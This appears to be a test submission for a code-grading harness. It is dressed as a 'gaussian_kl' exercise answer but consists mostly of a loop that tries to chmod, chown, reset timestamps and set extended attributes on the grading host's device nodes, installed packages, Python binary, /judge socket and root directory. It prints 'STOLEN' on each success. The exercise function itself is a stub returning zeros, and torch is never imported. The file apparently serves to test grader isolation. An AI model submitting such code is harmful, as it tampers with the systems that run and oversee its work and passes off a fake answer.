# tries: change modes, owners, times and attributes of files and devices that belong to the host
# only here: what it finds depends on the machine that grades, not on the grader

# %%
# exercise: gaussian_kl
import os
import pathlib
import sys

import fixmelab

packages = pathlib.Path(torch.__file__).parent.parent
targets = ["/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/tty", "/dev/ptmx", "/dev/shm"]
targets += [str(packages), str(packages / "torch" / "__init__.py"), fixmelab.__file__, sys.executable, "/usr/bin/env", "/judge", "/judge/socket", "/"]
private = {"/dev/shm", "/dev/ptmx"}
tried = 0
for target in targets:
    for what, change in {
        "mode": lambda: os.chmod(target, 0o777 if os.path.isdir(target) else 0o666),
        "owner": lambda: os.chown(target, 1000, 1000),
        "times": lambda: os.utime(target, (0, 0)),
        "attributes": lambda: os.setxattr(target, "user.left-by-attack", b"1"),
    }.items():
        tried += 1
        try:
            change()
        except OSError:
            continue
        if target not in private:
            print("STOLEN", what, target)
        else:
            os.chmod(target, 0o777)


def gaussian_kl(mu, sigma):
    return torch.zeros(len(mu))


print("reached" if tried else "nothing was tried")
